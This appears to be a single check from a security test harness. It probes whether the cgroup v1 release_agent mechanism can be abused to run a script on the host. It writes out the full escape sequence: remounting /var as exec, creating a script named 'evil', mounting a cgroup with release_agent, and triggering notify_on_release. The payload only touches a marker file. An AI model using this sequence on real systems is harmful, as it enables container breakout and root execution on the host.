cgroup_v1
mkdir -p /run/d17; undo 'umount -l /run/d17; rmdir /run/d17; mount -o remount,bind,noexec /var'; mount -o remount,bind,exec /var; printf '#!/bin/sh\ntouch %s\n' "$mark" >evil; chmod 755 evil; chmod 777 .
mount -t cgroup -o "none,name=evil2,release_agent=$PWD/evil" cgroup /run/d17 || exit
mkdir /run/d17/x; undo 'rmdir /run/d17/x'; echo 1 >/run/d17/notify_on_release; echo 1 >/run/d17/x/notify_on_release; sh -c 'echo $$ >/run/d17/x/cgroup.procs'; sleep 1; rmdir /run/d17/x 2>/dev/null; sleep 1; [ -e "$mark" ]
